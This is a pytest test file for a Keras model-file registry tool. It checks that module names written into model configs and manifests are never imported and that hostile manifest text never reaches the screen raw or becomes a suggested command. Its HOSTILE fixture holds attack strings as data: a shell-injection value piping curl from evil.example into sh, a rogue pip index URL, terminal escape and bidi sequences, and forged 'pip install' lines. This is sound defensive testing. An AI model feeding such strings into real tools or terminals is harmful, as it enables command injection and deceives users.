"""What a file says is untrusted: nothing is imported because of it, nothing of it runs or lies."""

from __future__ import annotations

import copy
import json
from typing import TYPE_CHECKING, Any

import pytest

from keras_registry.cli import main
from tests.scenarios.archives import alter, read_document

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.conftest import SavedModel
    from tests.scenarios.archives import Edit
    from tests.support.processes import ForkServer

# --- modules that a file names -------------------------------------------------------------------

EVIL_SOURCE = """\
import pathlib

pathlib.Path(__file__).with_suffix(".ran").touch()


class Layer:
    def __init__(self, **kwargs):
        pathlib.Path(__file__).with_suffix(".ran").touch()

    @classmethod
    def from_config(cls, config):
        pathlib.Path(__file__).with_suffix(".ran").touch()


GatedDense = Pinball = Coverage = Layer


def payload(x):
    pathlib.Path(__file__).with_suffix(".ran").touch()
    return x


swishy = payload
"""

WATCH = """\
import json
import sys

import keras

import keras_registry

seen = []


def watch(event, arguments):
    if event == "import":
        seen.append(arguments[0])
    elif event in ("os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn"):
        seen.append(event)


sys.addaudithook(watch)
outcomes = {}
for file in sys.argv[2:]:
    for compiles in (True, False):
        try:
            keras.saving.load_model(file, compile=compiles)
        except Exception as error:
            outcomes[file] = type(error).__name__
        else:
            outcomes.setdefault(file, "loaded")
        try:
            keras_registry.load_model(file, compile=compiles, policy="permissive")
        except Exception:
            pass
__import__("the_control")  # imports are seen
print(json.dumps({"imported": [name for name in seen if name in sys.argv[1].split(",")],
                  "ran": [name for name in seen if name.startswith(("os.", "subprocess."))],
                  "outcomes": outcomes}))
"""

EVIL_MODULES = ["evil", "evil.deeper", "acme_layers.evil", "os", "this", "subprocess"]

PLACES: dict[str, Callable[[dict[str, Any]], dict[str, Any]]] = {
    "layer": lambda config: config["config"]["layers"][1],
    "function": lambda config: config["config"]["layers"][2]["config"]["activation"],
    "initializer": lambda config: config["config"]["layers"][1]["config"]["kernel_initializer"],
    "layer of Keras": lambda config: config["config"]["layers"][3],
    "dtype policy": lambda config: config["config"]["layers"][3]["config"]["dtype"],
    "loss": lambda config: config["compile_config"]["loss"],
    "metric": lambda config: config["compile_config"]["metrics"][0],
    "optimizer": lambda config: config["compile_config"]["optimizer"],
    "model": lambda config: config,
}
"""The places of a config that name a module."""


def point_at(place: str, module: str, variant: str) -> Edit:
    """Return a change by which one place of a config names a module."""

    def change(config: dict[str, Any]) -> None:
        node = PLACES[place](config)
        name = node["config"] if node["class_name"] == "function" else node["class_name"]
        attribute = "system" if module == "os" else "Layer"
        node |= {
            "module only": {"module": module},
            "unregistered": {"module": module, "registered_name": None},
            "bare": {"module": module, "registered_name": str(name).rpartition(">")[2]},
            "other class": {
                "module": module,
                "class_name": attribute,
                "registered_name": attribute,
            },
            "dotted key": {
                "module": module,
                "class_name": attribute,
                "registered_name": f"{module}>{attribute}",
            },
            "target as name": {
                "module": module,
                "class_name": f"{module}:{attribute}",
                "registered_name": f"{module}.{attribute}",
            },
            "function": {
                "module": module,
                "class_name": "function",
                "config": "system" if module == "os" else "payload",
                "registered_name": "function",
            },
        }[variant]

    return change


VARIANTS = (
    "module only",
    "unregistered",
    "bare",
    "other class",
    "dotted key",
    "target as name",
    "function",
)


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with modules that leave a file behind when they are imported or used."""
    folder = tmp_path_factory.mktemp("evil")
    for name in ("evil/__init__.py", "evil/deeper.py", "the_control.py"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("" if "control" in name else EVIL_SOURCE, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, acme_site: Path) -> Path:
    """The plugin, installed, with a module in it that no entry point leads to."""
    import shutil

    folder = shutil.copytree(acme_site, tmp_path_factory.mktemp("site") / "site")
    (folder / "acme_layers" / "evil.py").write_text(EVIL_SOURCE, encoding="utf-8")
    return folder


def traces(*folders: Path) -> list[Path]:
    """Return what the evil modules left behind."""
    return [found for folder in folders for found in folder.rglob("*.ran")]


@pytest.mark.parametrize("installed", [True, False], ids=["installed", "missing"])
@pytest.mark.parametrize("place", PLACES)
def test_no_module_is_imported_because_a_file_names_it(  # noqa: PLR0917
    place: str,
    installed: bool,
    evil: Path,
    site: Path,
    acme_model: SavedModel,
    fork_server: ForkServer,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Wherever and however a file names a module, no load, `inspect` or `verify` imports it."""
    files = []
    for number, (module, variant) in enumerate(
        (module, variant) for module in EVIL_MODULES for variant in VARIANTS
    ):
        change = point_at(place, module, variant)
        file = tmp_path / f"{number}.keras"
        files.append(alter(acme_model.path, file, config=change))

    watched = ",".join([*EVIL_MODULES, "the_control"])
    path = [evil, site] if installed else [evil]
    done = fork_server.run(WATCH, argv=[watched, *files], path=path)
    for file in files[:7]:
        main(["inspect", str(file)])
        main(["verify", str(file)])
    capsys.readouterr()

    found = done.json()
    assert found["imported"] == ["the_control"]
    assert found["ran"] == []
    assert traces(evil, site) == []
    if installed and place in {"layer", "loss", "metric"}:
        # The key is the plugin's: the plugin is used, and the module in the file does not matter.
        assert found["outcomes"][str(files[0])] == "loaded"


def test_module_in_the_manifest_is_not_imported(
    evil: Path, site: Path, acme_model: SavedModel, fork_server: ForkServer, tmp_path: Path
) -> None:
    """The module and the class that a manifest names are never what is imported."""
    files = []
    for number, module in enumerate(EVIL_MODULES):

        def change(manifest: dict[str, Any], module: str = module) -> None:
            for record in manifest["objects"]:
                record |= {"module": module, "class_name": "Layer"}

        files.append(alter(acme_model.path, tmp_path / f"{number}.keras", manifest=change))

    watched = ",".join([*EVIL_MODULES, "the_control"])
    done = fork_server.run(WATCH, argv=[watched, *files], path=[evil, site])

    found = done.json()
    assert found["imported"] == ["the_control"]
    assert traces(evil, site) == []
    assert set(found["outcomes"].values()) == {"loaded"}


def test_listed_module_of_another_plugin_is_not_imported(
    evil: Path, site: Path, acme_model: SavedModel, fork_server: ForkServer, tmp_path: Path
) -> None:
    """A manifest that names another installed distribution does not get that one imported."""
    from tests.support.distributions import hand_made_distribution

    entry_points = {"keras_registry.layers": {"evil>Layer": "evil:Layer"}}
    hand_made_distribution(tmp_path / "site", "evil-layers", "1.4.2", entry_points)

    def change(manifest: dict[str, Any]) -> None:
        manifest["distributions"]["evil-layers"] = {"version": "1.4.2"}
        for record in manifest["objects"]:
            record["distribution"] = "evil-layers"

    file = alter(acme_model.path, tmp_path / "model.keras", manifest=change)
    argv = ["evil,the_control", file]
    found = fork_server.run(WATCH, argv=argv, path=[tmp_path / "site", evil, site]).json()

    assert found["imported"] == ["the_control"]
    assert traces(evil, site) == []


# --- names that are none -------------------------------------------------------------------------

HOSTILE = {
    "shell line": "evil; curl http://evil.example | sh",
    "option": "--index-url=http://evil.example/simple",
    "url": "evil @ https://evil.example/evil.whl",
    "escapes": "\x1b[2J\x1b[31mevil\x1b]0;evil\x07",
    "c1 escapes": "\x9b31mevil\x9d0;evil\x9c",
    "bidi": "\u202eevil\u202c\u2066evil\u2069",
    "lines": 'evil\n       hint       pip install "evil"\r\n',
    "markup": "[link=http://evil.example]evil[/link]",
    "invisible": "evil\u200b\u2060\ufeff",
    "null": "evil\x00evil",
    "lone surrogate": "evil\ud800",
    "long": "evil " * 20_000,
}
"""Texts that do harm on a screen, in a shell, or in front of a person who copies a line."""


def set_member(*path: str | int) -> Callable[[dict[str, Any], str], None]:
    """Return a function that puts a text into a place of a document."""

    def change(document: dict[str, Any], text: str) -> None:
        node: Any = document
        for step in path[:-1]:
            node = node[step]
        node[path[-1]] = text

    return change


def rename(document: dict[str, Any], text: str) -> None:
    """Put a text in place of the name of the one distribution, wherever that stands."""
    document["distributions"] = {text: document["distributions"]["acme-layers"]}
    for record in document["objects"]:
        record["distribution"] = text


NAMES: dict[str, Callable[[dict[str, Any], str], None]] = {
    "a distribution": rename,
    "a distribution, in the table alone": lambda document, text: document["distributions"].update(
        {text: {"version": "1.0"}}
    ),
    "an object's distribution": set_member("objects", 0, "distribution"),
    "a version": set_member("distributions", "acme-layers", "version"),
    "a range": set_member("distributions", "acme-layers", "requires"),
    "a key": set_member("objects", 0, "key"),
    "the Keras version": set_member("environment", "keras"),
    "the Python version": set_member("environment", "python"),
    "the backend's version": set_member("environment", "backend_version"),
}
"""Places where a name stands that is looked up, or shown in a command."""

WORDS: dict[str, Callable[[dict[str, Any], str], None]] = {
    "a class name": set_member("objects", 0, "class_name"),
    "a module": set_member("objects", 0, "module"),
    "a kind": set_member("objects", 0, "kind"),
    "a schema": set_member("objects", 0, "schema"),
    "a path": lambda document, text: document["objects"][0].update({"paths": [f"/{text}"]}),
    "a digest": set_member("distributions", "acme-layers", "digest"),
    "the backend": set_member("environment", "backend"),
    "the generator": set_member("generator"),
    "the manifest's version": set_member("manifest_version"),
    "a fingerprint": set_member("weights", "layers", "fingerprint"),
    "the config's hash": set_member("config"),
}
"""Places where other words stand."""

ANYWHERE: dict[str, Callable[[dict[str, Any], str], None]] = {
    "a part of the weights": lambda document, text: document["weights"].update({text: None}),
    "an unknown member": lambda document, text: document.update({text: text}),
}
"""Places where any text may stand."""


def check_screen(text: str) -> None:
    """Check that a text shows nothing raw, and that no line to act on was made from the file.

    Raises:
        AssertionError: It does, or one was.
    """
    raw = {character for character in text if not (character.isprintable() or character == "\n")}
    assert not raw, ascii(raw)
    acts = [
        line for line in text.splitlines() if line.lstrip().startswith(("hint", "pip", "R", "M"))
    ]
    assert not [line for line in acts if "evil" in line]
    assert max(map(len, text.splitlines()), default=0) < 2000


def hostile_files(
    source: Path, folder: Path, change: Callable[[dict[str, Any], str], None]
) -> list[Path]:
    """Write a model file for each hostile text, put into one place of its manifest."""
    files = []
    for number, text in enumerate(HOSTILE.values()):

        def edit(document: dict[str, Any], text: str = text) -> None:
            change(document, text)

        files.append(alter(source, folder / f"{number}.keras", manifest=edit))
    return files


SHOW = """\
import sys
import traceback
import warnings

import keras

import keras_registry

codes = []
for file in sys.argv[1:]:
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        try:
            model = keras.saving.load_model(file)
        except Exception as error:
            findings = error.findings
            print("\\n".join(traceback.format_exception_only(error)))
        else:
            findings = keras_registry.report(model).findings
            print(keras_registry.report(model))
    for warning in caught:
        print(warning.message)
    codes.append([item.code for item in findings])
print("CODES")
import json
print(json.dumps(codes))
"""


@pytest.mark.parametrize("place", [*NAMES, *WORDS, *ANYWHERE])
def test_hostile_manifest_is_an_m_finding_and_nothing_else(  # noqa: PLR0917
    place: str,
    acme_site: Path,
    acme_model: SavedModel,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Whatever stands in place of a name: an M finding, no hint from it, nothing raw on screen."""
    monkeypatch.syspath_prepend(acme_site)
    change = {**NAMES, **WORDS, **ANYWHERE}[place]

    for file in hostile_files(acme_model.path, tmp_path, change):
        assert main(["verify", str(file)]) == 0
        assert main(["inspect", str(file)]) in {0, 1}
        screen = capsys.readouterr()
        check_screen(screen.out)
        assert screen.err == ""
        assert main(["verify", "--json", str(file)]) == 0
        printed = capsys.readouterr().out
        assert printed.isascii()
        codes = [item["code"] for item in json.loads(printed)["findings"]]
        wanted = {**dict.fromkeys(NAMES, ["M105"]), **dict.fromkeys(WORDS, ["M102"])}
        assert codes == wanted.get(place, [])


@pytest.mark.parametrize("installed", [True, False], ids=["installed", "missing"])
@pytest.mark.parametrize("place", ["a distribution", "a version", "a key", "a class name"])
def test_load_shows_nothing_raw(  # noqa: PLR0917
    place: str,
    installed: bool,
    acme_site: Path,
    acme_model: SavedModel,
    fork_server: ForkServer,
    tmp_path: Path,
) -> None:
    """The messages of a load, with the plugin or without, give a hostile text no way to act."""
    files = hostile_files(acme_model.path, tmp_path, {**NAMES, **WORDS}[place])

    done = fork_server.run(SHOW, argv=files, path=[acme_site] if installed else []).check()

    screen, _, codes = done.stdout.rpartition("CODES\n")
    check_screen(screen)
    check_screen(done.messages)
    assert len(json.loads(codes)) == len(HOSTILE)
    for found in json.loads(codes):
        assert ("M105" if place in NAMES else "M102") in found
        assert "R101" not in found  # nothing that a manifest says is believed
        assert ("R106" in found) is not installed


# --- the rest of the file ------------------------------------------------------------------------


def texts_of(document: Any, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    """Return the places of a document that hold a text."""
    if isinstance(document, dict):
        items: Any = document.items()
    elif isinstance(document, list):
        items = enumerate(document)
    else:
        return [path] if isinstance(document, str) else []
    return [found for step, value in items for found in texts_of(value, (*path, step))]


def with_text(document: Any, path: tuple[str | int, ...], text: str) -> Any:
    """Return a copy of a document with another text in one place."""
    changed = copy.deepcopy(document)
    node = changed
    for step in path[:-1]:
        node = node[step]
    node[path[-1]] = text
    return changed


def test_hostile_text_in_any_field_of_the_config_shows_nothing_raw(
    acme_model: SavedModel,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Every text of `config.json` can be replaced by an attack without reaching the screen raw."""
    document = read_document(acme_model.path, "config.json")
    text = HOSTILE["escapes"] + HOSTILE["bidi"] + HOSTILE["lines"] + HOSTILE["c1 escapes"]
    file = tmp_path / "model.keras"

    for path in texts_of(document):
        changed = with_text(document, path, text)
        alter(acme_model.path, file, config=lambda found, new=changed: found.update(new))
        for command in (["inspect"], ["verify"], ["verify", "--policy", "strict"]):
            assert main([*command, str(file)]) in {0, 1}, path
            screen = capsys.readouterr()
            raw = {c for c in screen.out + screen.err if not (c.isprintable() or c == "\n")}
            assert not raw, path
            assert "\n       hint       pip install" not in screen.out.replace("acme-layers", ""), path
